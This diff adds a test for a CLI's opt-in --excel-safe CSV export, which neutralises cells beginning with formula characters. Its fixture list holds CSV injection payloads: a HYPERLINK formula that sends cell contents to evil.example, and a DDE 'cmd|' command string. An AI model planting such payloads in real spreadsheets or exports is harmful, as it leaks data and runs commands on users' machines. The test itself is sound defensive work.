@@ -148,6 +148,28 @@ def test_cli_exports_and_says_where(db, tmp_path):
     assert (tmp_path / "excel.csv").read_bytes().startswith(b"\xef\xbb\xbfid,report_id,")
 
 
+def test_excel_safe_csv_keeps_formulas_from_running_and_is_off_by_default(db, tmp_path):
+    """A portal's text can begin with a formula: kept exactly unless --excel-safe, which puts a
+    ' before text beginning with = + - @ (tab, CR); numbers, negative ones too, are left alone."""
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"年报")', "+1+cmd|' /C calc'!A0", "-", "@SUM(1)", "\t=1"]
+    db["cells"].insert_all({"report_id": 1, "table_name": "applications", "row_key": "granted",
+                            "column_key": f"c{n}", "value": -3.0, "text": text, "kind": "text"}
+                           for n, text in enumerate(hostile))
+    exact = CliRunner().invoke(cli, ["export", "--data", str(tmp_path), "--table", "cells", "-o", "-"])
+    safe = CliRunner().invoke(cli, ["export", "--data", str(tmp_path), "--table", "cells", "--excel-safe", "-o", "-"])
+    assert exact.exit_code == safe.exit_code == 0, exact.output + safe.output
+    exact_rows = list(csv.DictReader(io.StringIO(exact.output)))[-len(hostile):]
+    safe_rows = list(csv.DictReader(io.StringIO(safe.output)))[-len(hostile):]
+    assert [r["text"] for r in exact_rows] == hostile
+    assert [r["text"] for r in safe_rows] == ["'" + text for text in hostile]
+    assert {r["value"] for r in safe_rows} == {"-3.0"}
+    untouched = list(csv.DictReader(io.StringIO(safe.output)))[:len(CELLS)]
+    assert [r["text"] for r in untouched] == [c[5] for c in CELLS]
+    refused = CliRunner().invoke(cli, ["export", "--data", str(tmp_path), "--table", "cells", "--format", "parquet",
+                                       "--excel-safe"])
+    assert refused.exit_code == 2 and "--excel-safe is for CSV" in refused.output
+
+
 def test_cli_errors_are_one_line(db, tmp_path):
     runner = CliRunner()
     result = runner.invoke(cli, ["export", "--data", str(tmp_path), "--table", "nope"])
